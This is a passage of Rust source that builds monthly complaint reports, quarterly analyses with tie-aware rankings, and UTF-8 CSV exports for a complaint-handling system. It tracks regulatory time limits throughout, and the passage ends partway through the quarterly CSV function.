//! report: the monthly complaint report to head office (due by the 3rd trading day of the next
//! month), the quarterly analysis, their CSV export, and the 5-year retention rule.
//! Every figure carries the ids of the cases behind it so the UI can drill down.

use super::datefmt::Layout;
use super::spreadsheet::safe_cell;
use std::collections::BTreeMap;
use std::sync::Arc;

use chrono::{Datelike, Months, NaiveDate, NaiveDateTime};

use super::calendar::{next_month, time_text, WorkingCalendar};
use serde::{Deserialize, Serialize};

use super::complaint::{
    due_at, met_at, severity_en, severity_zh, state_of, Action, ActionKind, ApprovalStage,
    Category, Channel, Clock, ClockKind, ClockState, Complaint, ComplaintError, Responsibility,
    StaffRef, Status, APPROVED_TEXT,
};
use super::settings::Language;
use super::staff::{Actor, Role};
use super::Record;

/// Years an archived case is kept before it may be destroyed.
pub const RETENTION_YEARS: u32 = 5;

/// The monthly report is due by this trading day of the following month.
pub const REPORT_DUE_TRADING_DAY: u32 = 3;

/// A count and the cases behind it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Figure {
    pub count: u32,
    /// Complaint document ids, sorted (ids are time-ordered, so oldest first). Shared: a case
    /// is behind some ten figures of a report, and a report may count 100,000 cases.
    pub ids: Vec<Arc<str>>,
}

impl Figure {
    fn add(&mut self, id: &Arc<str>) {
        self.count += 1;
        self.ids.push(id.clone());
    }
    fn sort(&mut self) {
        // The standard sort itself: a month's figures hold some 1,000,000 ids (the shared
        // sort would sort positions, then move them). Only when the cases came out of order.
        self.ids.sort();
    }
}

/// How a month's cases stand against one time limit.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LimitFigures {
    /// Met within the limit.
    pub within: Figure,
    /// Met after the limit, or not met and past it.
    pub late: Figure,
    /// Not met yet and not yet due.
    pub pending: Figure,
}

impl LimitFigures {
    fn add(&mut self, id: &Arc<str>, state: ClockState) {
        match state {
            ClockState::Met => self.within.add(id),
            ClockState::MetLate { .. } | ClockState::Overdue { .. } => self.late.add(id),
            ClockState::OnTime { .. } | ClockState::DueToday { .. } => self.pending.add(id),
        }
    }
    /// Share handled within the limit among the cases already decided (within + late);
    /// `None` when no case is decided yet.
    pub fn share_within(&self) -> Option<f64> {
        let decided = self.within.count + self.late.count;
        (decided > 0).then(|| self.within.count as f64 / decided as f64)
    }
    fn sort(&mut self) {
        self.within.sort();
        self.late.sort();
        self.pending.sort();
    }
}

/// A case that broke a regulatory time limit (3 or 4 working days).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OverdueCase {
    pub id: String,
    pub case_no: String,
    pub received_at: NaiveDateTime,
    /// The limits broken and how (`MetLate` or `Overdue`).
    pub breaches: Vec<(ClockKind, ClockState)>,
}

/// One line of the report's case list.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CaseRow {
    pub id: String,
    pub case_no: String,
    pub received_at: NaiveDateTime,
    pub channel: Channel,
    pub category: Option<Category>,
    pub severity: Option<u8>,
    pub department: Option<String>,
    pub status: Status,
    pub responsibility: Option<Responsibility>,
    /// The first response given to the customer.
    pub responded_at: Option<NaiveDateTime>,
    pub investigation: ClockState,
    pub response: ClockState,
    /// Awaiting approval, approved at every level: it reads 已审批，待反馈 (the complaint list's
    /// CSV knows; the report's facts do not hold the approvals).
    pub approved: bool,
    /// Its records destroyed (the complaint list's CSV knows; the report's facts do not): it
    /// reads 已销毁, not 已归档.
    pub destroyed: bool,
}

impl CaseRow {
    fn of(c: &CaseFacts, verdict: &LimitVerdict) -> CaseRow {
        CaseRow {
            id: c.id.clone(),
            case_no: c.case_no.clone(),
            received_at: c.received_at,
            channel: c.channel,
            category: c.category,
            severity: c.severity,
            department: department_of(&c.department).map(String::from),
            status: c.status,
            responsibility: c.responsibility,
            responded_at: c.responded_at,
            investigation: verdict.investigation.state,
            response: verdict.response.state,
            approved: false,
            destroyed: false,
        }
    }
}

/// The monthly report of complaints received in one month.
#[derive(Clone, Debug, PartialEq)]
pub struct MonthlyReport {
    pub year: i32,
    pub month: u32,
    /// When the figures were taken (clock states depend on it).
    pub as_of: NaiveDateTime,
    pub total: Figure,
    pub by_channel: BTreeMap<Channel, Figure>,
    /// `None`: not yet classified.
    pub by_category: BTreeMap<Option<Category>, Figure>,
    /// `None`: not yet routed.
    pub by_department: BTreeMap<Option<String>, Figure>,
    /// Staff complained about; a case naming two people counts for each.
    pub by_staff: BTreeMap<String, Figure>,
    pub by_severity: BTreeMap<Option<u8>, Figure>,
    /// Outcome: the responsibility finding of the current round (`None`: not yet found).
    pub by_responsibility: BTreeMap<Option<Responsibility>, Figure>,
    pub by_status: BTreeMap<Status, Figure>,
    /// The 3-working-day investigation limit.
    pub investigation: LimitFigures,
    /// The 4-working-day response limit.
    pub response: LimitFigures,
    /// Cases that broke the 3- or 4-day limit, oldest first.
    pub overdue: Vec<OverdueCase>,
    /// Every case of the month, oldest first.
    pub cases: Vec<CaseRow>,
    /// When the report must reach head office: the 3rd trading day of the next month.
    pub head_office_due: Option<NaiveDate>,
}

/// What the monthly report needs of one complaint: kept by the store beside each complaint
/// (the `complaint_facts` summary, about 200 bytes) so that a month of 100,000 cases is read
/// without reading the cases. Stored as a JSON array of the fields in the order below, with
/// no names (see the `Serialize` impl): a month is 100,000 of them, and field names were
/// a seventh of its bytes. Read from that array, or from the object with one-letter names that
/// summaries written before hold (`#[serde(rename)]`), so those need no migration.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
pub struct CaseFacts {
    #[serde(rename = "n")]
    pub case_no: String,
    #[serde(rename = "r", with = "time_text")]
    pub received_at: NaiveDateTime,
    #[serde(rename = "c")]
    pub channel: Channel,
    #[serde(rename = "k", default)]
    pub category: Option<Category>,
    #[serde(rename = "v", default)]
    pub severity: Option<u8>,
    #[serde(rename = "d", default)]
    pub department: Option<String>,
    #[serde(rename = "p", default)]
    pub staff_involved: Vec<String>,
    #[serde(rename = "s")]
    pub status: Status,
    #[serde(rename = "b", default)]
    pub responsibility: Option<Responsibility>,
    /// When the first investigation opinion was submitted (the investigation clock's stop).
    #[serde(rename = "o", default, with = "time_text::option")]
    pub opinion_at: Option<NaiveDateTime>,
    /// When the customer was first answered (the response clock's stop).
    #[serde(rename = "a", default, with = "time_text::option")]
    pub responded_at: Option<NaiveDateTime>,
    /// Not stored: a summary entry carries its document's id (see [`CaseFacts::with_id`]).
    /// Last, so that the stored array reads without it; summaries written before it was left
    /// out still hold it as `i`.
    #[serde(rename = "i", default)]
    pub id: String,
}

/// The stored form: `[case_no, received_at, channel, category, severity, department,
/// staff_involved, status, responsibility, opinion_at, responded_at]`, absent values `null`
/// and left off at the end (an open case has no finding or stops yet). The derived
/// `Deserialize` reads a struct from an array in field order, a field left off as its default.
impl Serialize for CaseFacts {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeTuple;
        let tail = [
            self.responsibility.is_some(),
            self.opinion_at.is_some(),
            self.responded_at.is_some(),
        ];
        let len = 8 + tail.iter().rposition(|&given| given).map_or(0, |i| i + 1);
        let mut t = s.serialize_tuple(len)?;
        t.serialize_element(&self.case_no)?;
        t.serialize_element(&self.received_at)?;
        t.serialize_element(&self.channel)?;
        t.serialize_element(&self.category)?;
        t.serialize_element(&self.severity)?;
        t.serialize_element(&self.department)?;
        t.serialize_element(&self.staff_involved)?;
        t.serialize_element(&self.status)?;
        if len > 8 {
            t.serialize_element(&self.responsibility)?;
        }
        if len > 9 {
            t.serialize_element(&self.opinion_at)?;
        }
        if len > 10 {
            t.serialize_element(&self.responded_at)?;
        }
        t.end()
    }
}

impl CaseFacts {
    pub fn of(c: &Complaint) -> CaseFacts {
        CaseFacts {
            id: c.id.clone(),
            case_no: c.case_no.clone(),
            received_at: c.received_at,
            channel: c.channel,
            category: c.category,
            severity: c.severity,
            department: c.department.clone(),
            staff_involved: c.staff_involved.clone(),
            status: c.status,
            // The latest finding made: a reopened case keeps its earlier round's until the new
            // round reaches its own (its first answer, `responded_at`, stays too).
            responsibility: c.rounds.iter().rev().find_map(|r| r.responsibility),
            opinion_at: met_at(c, ClockKind::Investigation),
            responded_at: met_at(c, ClockKind::Response),
        }
    }

    /// The facts with their complaint's id (as read from a summary, which holds it beside).
    pub fn with_id(self, id: String) -> CaseFacts {
        CaseFacts { id, ..self }
    }

    /// The facts of a stored complaint body (without `_id`), read straight from the JSON
    /// without building the whole complaint. None when the body is not a complaint.
    pub fn of_body(id: &str, body: &serde_json::Value) -> Option<CaseFacts> {
        #[derive(Deserialize)]
        struct Round {
            #[serde(default)]
            responsibility: Option<Responsibility>,
        }
        #[derive(Deserialize)]
        struct Event {
            #[serde(with = "time_text")]
            at: NaiveDateTime,
            action: ActionKind,
        }
        #[derive(Deserialize)]
        struct Body {
            case_no: String,
            channel: Channel,
            #[serde(with = "time_text")]
            received_at: NaiveDateTime,
            #[serde(default)]
            staff_involved: Vec<String>,
            #[serde(default)]
            category: Option<Category>,
            #[serde(default)]
            severity: Option<u8>,
            #[serde(default)]
            department: Option<String>,
            status: Status,
            rounds: Vec<Round>,
            history: Vec<Event>,
        }
        // From the borrowed body: no copy of it on every write.
        let b = Body::deserialize(body).ok()?;
        let first = |kind: ActionKind| {
            b.history
                .iter()
                .filter(|e| e.action == kind)
                .map(|e| e.at)
                .min()
        };
        Some(CaseFacts {
            id: id.to_string(),
            case_no: b.case_no,
            received_at: b.received_at,
            channel: b.channel,
            category: b.category,
            severity: b.severity,
            department: b.department,
            status: b.status,
            responsibility: b.rounds.iter().rev().find_map(|r| r.responsibility),
            opinion_at: first(ActionKind::SubmitOpinion),
            responded_at: first(ActionKind::Respond),
            staff_involved: b.staff_involved,
        })
    }
}

fn clock_of(
    kind: ClockKind,
    due: NaiveDateTime,
    met: Option<NaiveDateTime>,
    now: NaiveDateTime,
) -> Clock {
    Clock {
        kind,
        due,
        met_at: met,
        state: state_of(due, met, now),
    }
}

/// How one case stands against the procedure's two limits (3 working days to investigate
/// and submit the opinion, 4 to answer the customer; source 002 第四章) as of a moment: the
/// monthly report's verdict on a case, which its limit figures, its overdue list and the KPI
/// sheet's on-time rate (`kpi`) all read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct LimitVerdict {
    pub investigation: Clock,
    pub response: Clock,
}

impl LimitVerdict {
    /// The verdict on the case of `facts` as of `now`, its limits from `calendar`.
    pub fn of(facts: &CaseFacts, calendar: &WorkingCalendar, now: NaiveDateTime) -> Self {
        Self::with_dues(
            facts,
            due_at(ClockKind::Investigation, facts.received_at, calendar),
            due_at(ClockKind::Response, facts.received_at, calendar),
            now,
        )
    }

    /// As [`of`](Self::of), the two limits given (worked out once per day of receipt).
    fn with_dues(
        facts: &CaseFacts,
        investigation_due: NaiveDateTime,
        response_due: NaiveDateTime,
        now: NaiveDateTime,
    ) -> Self {
        LimitVerdict {
            investigation: clock_of(
                ClockKind::Investigation,
                investigation_due,
                facts.opinion_at,
                now,
            ),
            response: clock_of(ClockKind::Response, response_due, facts.responded_at, now),
        }
    }

    /// The limits broken (met late, or past and not met): what puts the case on the
    /// overdue list.
    pub fn breaches(&self) -> Vec<(ClockKind, ClockState)> {
        [&self.investigation, &self.response]
            .into_iter()
            .filter(|k| k.state.is_breach())
            .map(|k| (k.kind, k.state))
            .collect()
    }

    /// `Some(true)`: both limits met in time; `Some(false)`: one broken (it stays broken);
    /// `None`: still within a limit not met yet, so not decided.
    pub fn on_time(&self) -> Option<bool> {
        let clocks = [&self.investigation, &self.response];
        if clocks.iter().any(|k| k.state.is_breach()) {
            Some(false)
        } else if clocks.iter().all(|k| k.state == ClockState::Met) {
            Some(true)
        } else {
            None
        }
    }

    /// When the verdict was reached: for a case on time, when the last limit was met; for a
    /// late one, when the first limit it broke fell due (from then on it could only be late);
    /// `None` while undecided. Never after the response limit (the later of the two).
    pub fn decided_at(&self) -> Option<NaiveDateTime> {
        let clocks = [&self.investigation, &self.response];
        match self.on_time()? {
            true => clocks.iter().filter_map(|k| k.met_at).max(),
            false => clocks
                .iter()
                .filter(|k| k.state.is_breach())
                .map(|k| k.due)
                .min(),
        }
    }
}

/// Folds complaints one at a time into a monthly report, so the UI can page through 100,000
/// cases without holding them all. Cases received outside the month are skipped.
#[derive(Clone, Debug)]
pub struct MonthlyAggregator {
    report: MonthlyReport,
    calendar: WorkingCalendar,
    /// The investigation and response limits of a case received on each day of the month
    /// (working-day clocks depend on the day only), worked out once per day.
    limits: [Option<(NaiveDateTime, NaiveDateTime)>; 31],
    /// The last case counted, and whether every case so far came after the one before: by
    /// id (then each figure's ids are already in order) and by (time received, id) (then the
    /// case list and the overdue list are). A month read from the store's summaries comes in
    /// that order, and `finish` then has nothing to sort: checking a million ids spread over
    /// the figures cost more than these two comparisons per case.
    last: Option<(NaiveDateTime, Arc<str>)>,
    ids_in_order: bool,
    rows_in_order: bool,
}

impl MonthlyAggregator {
    pub fn new(year: i32, month: u32, calendar: WorkingCalendar, now: NaiveDateTime) -> Self {
        let (ny, nm) = next_month(year, month);
        let head_office_due = calendar.nth_trading_day_of_month(ny, nm, REPORT_DUE_TRADING_DAY);
        MonthlyAggregator {
            report: MonthlyReport {
                year,
                month,
                as_of: now,
                total: Figure::default(),
                by_channel: BTreeMap::new(),
                by_category: BTreeMap::new(),
                by_department: BTreeMap::new(),
                by_staff: BTreeMap::new(),
                by_severity: BTreeMap::new(),
                by_responsibility: BTreeMap::new(),
                by_status: BTreeMap::new(),
                investigation: LimitFigures::default(),
                response: LimitFigures::default(),
                overdue: Vec::new(),
                cases: Vec::new(),
                head_office_due,
            },
            calendar,
            limits: [None; 31],
            last: None,
            ids_in_order: true,
            rows_in_order: true,
        }
    }

    /// Whether a complaint was received in this aggregator's month.
    pub fn in_month(&self, c: &Complaint) -> bool {
        self.in_month_at(c.received_at)
    }

    fn in_month_at(&self, at: NaiveDateTime) -> bool {
        at.year() == self.report.year && at.month() == self.report.month
    }

    /// Count one complaint; returns whether it belonged to the month.
    pub fn add(&mut self, c: &Complaint) -> bool {
        self.add_facts(&CaseFacts::of(c))
    }

    /// Count one case by its facts (what the store keeps beside each complaint); returns
    /// whether it belonged to the month. The same figures as [`add`](Self::add).
    pub fn add_facts(&mut self, c: &CaseFacts) -> bool {
        if !self.in_month_at(c.received_at) {
            return false;
        }
        let now = self.report.as_of;
        let day = c.received_at.day0() as usize;
        let (inv_due, resp_due) = *self.limits[day].get_or_insert_with(|| {
            (
                due_at(ClockKind::Investigation, c.received_at, &self.calendar),
                due_at(ClockKind::Response, c.received_at, &self.calendar),
            )
        });
        let id: &Arc<str> = &Arc::from(c.id.as_str());
        if let Some((at, last)) = &self.last {
            self.ids_in_order &= **last < **id;
            self.rows_in_order &= (*at, &**last) < (c.received_at, &**id);
        }
        self.last = Some((c.received_at, id.clone()));
        let r = &mut self.report;
        let responsibility = c.responsibility;
        r.total.add(id);
        r.by_channel.entry(c.channel).or_default().add(id);
        r.by_category.entry(c.category).or_default().add(id);
        let department = department_of(&c.department);
        r.by_department
            .entry(department.map(String::from))
            .or_default()
            .add(id);
        // One person typed two ways ("赵六", "赵六（柜台）") is one row, counted once a case.
        let mut named: Vec<String> = c
            .staff_involved
            .iter()
            .map(|p| super::kpi::person_label(p))
            .filter(|p| !p.is_empty())
            .collect();
        super::sort::sort(&mut named);
        named.dedup();
        for person in named {
            r.by_staff.entry(person).or_default().add(id);
        }
        r.by_severity.entry(c.severity).or_default().add(id);
        r.by_responsibility
            .entry(responsibility)
            .or_default()
            .add(id);
        r.by_status.entry(c.status).or_default().add(id);
        let verdict = LimitVerdict::with_dues(c, inv_due, resp_due, now);
        r.investigation.add(id, verdict.investigation.state);
        r.response.add(id, verdict.response.state);
        let breaches = verdict.breaches();
        if !breaches.is_empty() {
            r.overdue.push(OverdueCase {
                id: c.id.clone(),
                case_no: c.case_no.clone(),
                received_at: c.received_at,
                breaches,
            });
        }
        r.cases.push(CaseRow::of(c, &verdict));
        true
    }

    /// Count a page of complaints; returns how many belonged to the month.
    pub fn add_all<'a>(&mut self, cases: impl IntoIterator<Item = &'a Complaint>) -> usize {
        cases.into_iter().filter(|c| self.add(c)).count()
    }

    /// The figures so far (the aggregator can go on counting).
    pub fn snapshot(&self) -> MonthlyReport {
        self.clone().finish()
    }

    /// The report, with every list in a fixed order whatever order the cases came in.
    pub fn finish(self) -> MonthlyReport {
        let mut r = self.report;
        if !self.ids_in_order {
            r.total.sort();
            for f in r.by_channel.values_mut() {
                f.sort();
            }
            for f in r.by_category.values_mut() {
                f.sort();
            }
            for f in r.by_department.values_mut() {
                f.sort();
            }
            for f in r.by_staff.values_mut() {
                f.sort();
            }
            for f in r.by_severity.values_mut() {
                f.sort();
            }
            for f in r.by_responsibility.values_mut() {
                f.sort();
            }
            for f in r.by_status.values_mut() {
                f.sort();
            }
            r.investigation.sort();
            r.response.sort();
        }
        r.by_staff = one_row_a_person(std::mem::take(&mut r.by_staff));
        if !self.rows_in_order {
            super::sort::sort_by(&mut r.overdue, |a, b| {
                (a.received_at, &a.id).cmp(&(b.received_at, &b.id))
            });
            super::sort::sort_by(&mut r.cases, |a, b| {
                (a.received_at, &a.id).cmp(&(b.received_at, &b.id))
            });
        }
        r
    }
}

/// The monthly report over a slice of complaints (those received in the month count).
pub fn monthly_report(
    cases: &[Complaint],
    year: i32,
    month: u32,
    calendar: &WorkingCalendar,
    now: NaiveDateTime,
) -> MonthlyReport {
    let mut agg = MonthlyAggregator::new(year, month, calendar.clone(), now);
    agg.add_all(cases);
    agg.finish()
}

// ───────────────────────────── quarterly analysis ─────────────────────────────

/// One month of the quarterly trend.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MonthTrend {
    pub year: i32,
    pub month: u32,
    pub total: Figure,
    pub by_category: BTreeMap<Option<Category>, Figure>,
    /// Cases that broke the 3- or 4-day limit.
    pub overdue: u32,
    /// Their case numbers, as the report lists them (the CSV's row named none: QA).
    pub overdue_cases: Vec<String>,
}

/// The quarterly analysis: where complaints concentrate (source 002 §六 3).
#[derive(Clone, Debug, PartialEq)]
pub struct QuarterlyAnalysis {
    pub year: i32,
    /// 1..=4
    pub quarter: u32,
    pub months: Vec<MonthTrend>,
    pub total: Figure,
    /// Most complained-about categories, departments and staff, most first (ties in name
    /// order, see [`Ranking`]); unclassified and unrouted cases are left out of these rankings.
    pub top_categories: Ranking<Category>,
    pub top_departments: Ranking<String>,
    pub top_staff: Ranking<String>,
    /// Each case's number by its id, for the CSV (the quarter's cases only).
    pub case_nos: BTreeMap<Arc<str>, String>,
}

/// Folds complaints into a quarterly analysis, one at a time.
#[derive(Clone, Debug)]
pub struct QuarterlyAggregator {
    year: i32,
    quarter: u32,
    months: Vec<MonthlyAggregator>,
}

impl QuarterlyAggregator {
    /// `quarter` is 1..=4 (values outside are clamped).
    pub fn new(year: i32, quarter: u32, calendar: WorkingCalendar, now: NaiveDateTime) -> Self {
        let quarter = quarter.clamp(1, 4);
        let first = (quarter - 1) * 3 + 1;
        QuarterlyAggregator {
            year,
            quarter,
            months: (first..first + 3)
                .map(|m| MonthlyAggregator::new(year, m, calendar.clone(), now))
                .collect(),
        }
    }

    /// Count one complaint; returns whether it belonged to the quarter.
    pub fn add(&mut self, c: &Complaint) -> bool {
        self.add_facts(&CaseFacts::of(c))
    }

    /// Count one case by its stored facts; returns whether it belonged to the quarter.
    pub fn add_facts(&mut self, c: &CaseFacts) -> bool {
        self.months.iter_mut().any(|m| m.add_facts(c))
    }

    pub fn add_all<'a>(&mut self, cases: impl IntoIterator<Item = &'a Complaint>) -> usize {
        cases.into_iter().filter(|c| self.add(c)).count()
    }

    /// The analysis with the `top_n` leading categories, departments and staff.
    pub fn finish(self, top_n: usize) -> QuarterlyAnalysis {
        let reports: Vec<MonthlyReport> = self.months.into_iter().map(|m| m.finish()).collect();
        let mut total = Figure::default();
        let mut categories: BTreeMap<Category, Figure> = BTreeMap::new();
        let mut departments: BTreeMap<String, Figure> = BTreeMap::new();
        let mut staff: BTreeMap<String, Figure> = BTreeMap::new();
        for r in &reports {
            for id in &r.total.ids {
                total.add(id);
            }
            for (k, f) in &r.by_category {
                if let Some(k) = k {
                    merge(categories.entry(*k).or_default(), f);
                }
            }
            for (k, f) in &r.by_department {
                if let Some(k) = k {
                    merge(departments.entry(k.clone()).or_default(), f);
                }
            }
            for (k, f) in &r.by_staff {
                merge(staff.entry(k.clone()).or_default(), f);
            }
        }
        total.sort();
        let case_nos = reports
            .iter()
            .flat_map(|r| &r.cases)
            .map(|c| (Arc::from(c.id.as_str()), c.case_no.clone()))
            .collect();
        QuarterlyAnalysis {
            case_nos,
            year: self.year,
            quarter: self.quarter,
            months: reports
                .iter()
                .map(|r| MonthTrend {
                    year: r.year,
                    month: r.month,
                    total: r.total.clone(),
                    by_category: r.by_category.clone(),
                    overdue: r.overdue.len() as u32,
                    overdue_cases: r.overdue.iter().map(|o| o.case_no.clone()).collect(),
                })
                .collect(),
            total,
            top_categories: top(categories, top_n),
            top_departments: top(departments, top_n),
            top_staff: top(one_row_a_person(staff), top_n),
        }
    }
}

/// One row a person: rows of a name typed in another letter case or width ("Carl Xu",
/// "carl xu", "ＣＡＲＬ　ＸＵ") are one, as on the KPI sheet ([`super::kpi::person_key`]),
/// shown as most of its cases typed it (on a tie the first in order); a case naming the
/// person both ways counts once.
fn one_row_a_person(rows: BTreeMap<String, Figure>) -> BTreeMap<String, Figure> {
    let mut by_key: BTreeMap<String, Vec<(String, Figure)>> = BTreeMap::new();
    for (label, f) in rows {
        by_key
            .entry(super::kpi::person_key(&label))
            .or_default()
            .push((label, f));
    }
    by_key
        .into_values()
        .filter_map(|mut group| {
            if group.len() == 1 {
                return group.pop();
            }
            let label = group
                .iter()
                .max_by(|a, b| a.1.count.cmp(&b.1.count).then_with(|| b.0.cmp(&a.0)))?
                .0
                .clone();
            let mut ids: Vec<Arc<str>> = group.into_iter().flat_map(|(_, f)| f.ids).collect();
            ids.sort();
            ids.dedup();
            Some((
                label,
                Figure {
                    count: ids.len() as u32,
                    ids,
                },
            ))
        })
        .collect()
}

fn merge(into: &mut Figure, from: &Figure) {
    into.count += from.count;
    into.ids.extend(from.ids.iter().cloned());
    into.ids.sort();
}

/// The `n` largest figures, most first; equal counts keep key order.
/// The leaders of a ranking, most first. Items with the same count share a rank (1, 2, 2, 4):
/// none of them is picked over another by its name. The first `n` are kept with every item
/// tied with the last of them, up to `2 n` in all; a tie at the cut-off larger than that is
/// left out whole and said as [`Tied`] (QA: six people with one complaint each, four of them
/// ranked 2 to 5 by the order of their names' characters and two dropped without a word).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Ranking<K> {
    pub rows: Vec<(K, Figure)>,
    /// The tie at the cut-off, left out.
    pub more: Option<Tied>,
}

/// Items tied at a ranking's cut-off and left out: how many, and the count of each.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Tied {
    pub items: usize,
    pub each: u32,
}

impl<K> Ranking<K> {
    /// Each row with its rank: one more than the rows counted higher.
    pub fn ranked(&self) -> impl Iterator<Item = (usize, &K, &Figure)> {
        let mut rank = 0;
        let mut above = None;
        self.rows.iter().enumerate().map(move |(i, (k, f))| {
            if above != Some(f.count) {
                rank = i + 1;
                above = Some(f.count);
            }
            (rank, k, f)
        })
    }

    /// Its items, most first.
    pub fn keys(&self) -> impl Iterator<Item = &K> {
        self.rows.iter().map(|(k, _)| k)
    }
}

fn top<K: Ord>(map: BTreeMap<K, Figure>, n: usize) -> Ranking<K> {
    let mut rows: Vec<(K, Figure)> = map.into_iter().collect();
    // Stable sort: ties stay in key order.
    super::sort::sort_by_key(&mut rows, |(_, f)| std::cmp::Reverse(f.count));
    let mut more = None;
    if n == 0 {
        rows.clear();
    } else if rows.len() > n {
        let cut = rows[n - 1].1.count;
        let end = rows
            .iter()
            .position(|(_, f)| f.count < cut)
            .unwrap_or(rows.len());
        if end <= 2 * n {
            rows.truncate(end);
        } else {
            let start = rows.iter().position(|(_, f)| f.count == cut).unwrap_or(0);
            more = Some(Tied {
                items: end - start,
                each: cut,
            });
            rows.truncate(start);
        }
    }
    Ranking { rows, more }
}

/// The quarterly analysis's three rankings' titles: categories, departments and staff (the
/// staff are the names typed under 涉及人员, so "involved", not "complained about").
pub const RANKINGS: [(&str, &str); 3] = [
    ("投诉最多的类别", "Categories with most complaints"),
    ("投诉最多的部门", "Departments with most complaints"),
    ("涉及投诉最多的员工", "Staff most involved in complaints"),
];

/// A tie left out of a ranking, in words.
pub fn tied_text(t: Tied, lang: Language) -> String {
    match lang {
        Language::Zh => format!("另有 {} 项并列，各 {} 件（未列出）", t.items, t.each),
        Language::En => format!("{} more tied at {} each (not listed)", t.items, t.each),
    }
}

/// The quarterly analysis over a slice of complaints.
pub fn quarterly_analysis(
    cases: &[Complaint],
    year: i32,
    quarter: u32,
    calendar: &WorkingCalendar,
    now: NaiveDateTime,
    top_n: usize,
) -> QuarterlyAnalysis {
    let mut agg = QuarterlyAggregator::new(year, quarter, calendar.clone(), now);
    agg.add_all(cases);
    agg.finish(top_n)
}

// ───────────────────────────── CSV export ─────────────────────────────

/// The UTF-8 byte-order mark, so that Excel reads Chinese text correctly.
pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

fn category_label(c: Option<Category>, lang: Language) -> String {
    match c {
        Some(c) => lang.pick(c.zh(), c.en()).into(),
        None => lang.pick("未分类", "Unclassified").into(),
    }
}

/// A case's department as counted and shown: "运营部 " (a space typed, imported or synced in)
/// is 运营部; a blank one is none.
fn department_of(d: &Option<String>) -> Option<&str> {
    d.as_deref().map(str::trim).filter(|d| !d.is_empty())
}

fn department_label(d: &Option<String>, lang: Language) -> String {
    match d {
        Some(d) => d.clone(),
        None => lang.pick("未分派", "Unassigned").into(),
    }
}

fn severity_label(s: Option<u8>, lang: Language) -> String {
    match s {
        Some(n) => format!("{n} {}", lang.pick(severity_zh(n), severity_en(n))),
        None => lang.pick("未定", "Unrated").into(),
    }
}

fn responsibility_label(r: Option<Responsibility>, lang: Language) -> String {
    match r {
        Some(r) => lang.pick(r.zh(), r.en()).into(),
        None => lang.pick("未认定", "Undetermined").into(),
    }
}

fn state_label(s: ClockState, lang: Language) -> &'static str {
    match s {
        ClockState::Met => lang.pick("按时", "On time"),
        ClockState::MetLate { .. } => lang.pick("超时完成", "Late"),
        ClockState::Overdue { .. } => lang.pick("已超时", "Overdue"),
        ClockState::OnTime { .. } | ClockState::DueToday { .. } => lang.pick("未到期", "Pending"),
    }
}

/// `part` of `whole` as a percentage with one decimal (a tie rounded up), empty when `whole`
/// is 0: as the report's CSV and its page show it.
pub fn percent(part: u32, whole: u32) -> String {
    if whole == 0 {
        String::new()
    } else {
        format!(
            "{}%",
            super::stats::percent_text(part as f64 * 100.0 / whole as f64, 1)
        )
    }
}

fn fmt_time(t: NaiveDateTime) -> String {
    t.layout("%Y-%m-%d %H:%M")
}

/// A report's CSV writer: UTF-8 with a BOM (so that Excel reads the Chinese) and flexible
/// rows. Every report's CSV starts here (the KPI sheet's too, `kpi::kpi_sheet_csv`).
pub(crate) fn report_writer() -> csv::Writer<Vec<u8>> {
    writer_after(UTF8_BOM.to_vec())
}

/// A report's CSV writer going on after `bytes` already written.
pub(crate) fn writer_after(bytes: Vec<u8>) -> csv::Writer<Vec<u8>> {
    csv::WriterBuilder::new().flexible(true).from_writer(bytes)
}

/// A report's CSV writer ([`report_writer`]) with the summary's header (section, item,
/// count, share, case numbers) in `lang`.
fn summary_writer(lang: Language) -> Result<csv::Writer<Vec<u8>>, csv::Error> {
    let mut w = report_writer();
    w.write_record([
        lang.pick("分组", "Section"),
        lang.pick("项目", "Item"),
        lang.pick("数量", "Count"),
        lang.pick("占比", "Share"),
        lang.pick("案件编号", "Case numbers"),
    ])?;
    Ok(w)
}

/// The quarterly analysis as CSV, as the monthly report's (UTF-8 with a BOM, labels in
/// `lang`; section, item, count, share, case numbers): the quarter's total, each month's
/// count, overdue cases and categories, and the leading categories, departments and staff.
pub fn quarterly_analysis_csv(
    q: &QuarterlyAnalysis,
    lang: Language,
) -> Result<Vec<u8>, csv::Error> {
    let numbers = |f: &Figure| -> String {
        f.ids
            .iter()
            .map(|id| q.case_nos.get(id).map_or(&**id, String::as_str))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let total = q.total.count;
    let mut w = summary_writer(lang)?;
    let l = |zh: &'static str, en: &'static str| lang.pick(zh, en);
    let mut row = |section: &str, item: String, count: u32, share: String, cases: String| {
        w.write_record([
            safe_cell(section),
            safe_cell(&item),
            count.to_string(),
            share,
            safe_cell(&cases),
        ])
    };
    row(
        l("汇总", "Summary"),
        format!(
            "{} {}Q{}",
            l("受理投诉", "Complaints received"),
            q.year,
            q.quarter
        ),
        total,
        String::new(),
        numbers(&q.total),
    )?;
    for m in &q.months {
        let period = format!("{}-{:02}", m.year, m.month);
        row(
            l("月度趋势", "By month"),
            period.clone(),
            m.total.count,
            percent(m.total.count, total),
            numbers(&m.total),
        )?;
        row(
            l("月度趋势", "By month"),
            format!("{period} {}", l("超时案件", "over a limit")),
            m.overdue,
            percent(m.overdue, m.total.count),
            m.overdue_cases.join(" "),
        )?;
        for (k, f) in &m.by_category {
            row(
                l("月度投诉类别", "Category by month"),
                format!("{period} {}", category_label(*k, lang)),
                f.count,
                percent(f.count, m.total.count),
                numbers(f),
            )?;
        }
    }
    let categories = q
        .top_categories
        .rows
        .iter()
        .map(|(k, f)| (category_label(Some(*k), lang), f))
        .collect();
    fn named(rows: &[(String, Figure)]) -> Vec<(String, &Figure)> {
        rows.iter().map(|(k, f)| (k.clone(), f)).collect()
    }
    for (section, rows, more) in [
        (RANKINGS[0], categories, q.top_categories.more),
        (
            RANKINGS[1],
            named(&q.top_departments.rows),
            q.top_departments.more,
        ),
